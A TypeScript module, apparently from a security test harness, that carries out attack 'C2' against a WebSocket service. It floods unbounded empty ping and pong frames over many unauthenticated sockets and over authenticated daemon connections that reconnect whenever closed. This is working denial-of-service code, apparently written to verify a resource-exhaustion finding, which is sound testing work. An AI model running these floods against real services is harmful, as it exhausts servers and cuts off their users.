/** C2: pings and pongs without a payload, as many as a socket takes, before `auth` and after it. */
import { type Attack, attackerAddress, type Target } from "./attack.ts"
import { DaemonSocket } from "./daemon-socket.ts"
import { emptyTally, flood, keepOpen, type Tally, upgradeUnauthenticated } from "./sockets.ts"

const frames = { ping: 0x89, pong: 0x8a } as const
const emptyMasked = 0x80
const framesPerWrite = 8_192
const socketCount = 16
const daemons = 4
const againMillis = 20

const bytesOf = (kind: keyof typeof frames): Buffer => {
  const one = [frames[kind], emptyMasked, 0, 0, 0, 0]
  return Buffer.from(Array.from({ length: framesPerWrite }, () => one).flat())
}

const unauthenticated = (kind: keyof typeof frames): Attack => ({
  finding: "C2",
  asks: `empty ${kind}s without end on ${socketCount} sockets before auth`,
  strike: async (target) => {
    const [bytes, tally] = [bytesOf(kind), emptyTally()]
    await keepOpen(target, target.tiny ? 2 : socketCount, attackerAddress, tally, (socket) =>
      upgradeUnauthenticated(socket, target.url, () => flood(socket, bytes, tally, target.over))
    )
    return { ...tally }
  }
})

/** One daemon that floods, and comes back when it is closed. */
const flooding = async (target: Target, token: string, at: number, bytes: Buffer, tally: Tally): Promise<void> => {
  while (!target.over()) {
    await new Promise<void>((gone) => {
      const more = (socket: DaemonSocket): void => {
        if (target.over()) return socket.cut()
        socket.raw(bytes, () => {
          tally.bytesSent += bytes.length
          target.reach()
          setImmediate(more, socket)
        })
      }
      const socket = new DaemonSocket(target.url, token, attackerAddress(at), {
        ready: (ready) => {
          tally.opened++
          more(ready)
        },
        gone: () => gone()
      })
      void target.ended.then(() => socket.cut())
    })
    if (target.over()) return
    tally.closed++
    await new Promise((go) => setTimeout(go, againMillis))
  }
}

const authenticated = (kind: keyof typeof frames): Attack => ({
  finding: "C2",
  asks: `empty ${kind}s without end of ${daemons} daemons`,
  holds: () => ({ plan: "free", keys: 0, daemons }),
  strike: async (target) => {
    const [bytes, tally] = [bytesOf(kind), emptyTally()]
    const own = target.holder?.daemons ?? []
    await Promise.all(own.map(({ token }, at) => flooding(target, token, at, bytes, tally)))
    return { ...tally }
  }
})

/** Before `auth`. */
export const pings: Attack = unauthenticated("ping")
/** Before `auth`. */
export const pongs: Attack = unauthenticated("pong")
/** After it. */
export const daemonPings: Attack = authenticated("ping")
/** After it. */
export const daemonPongs: Attack = authenticated("pong")
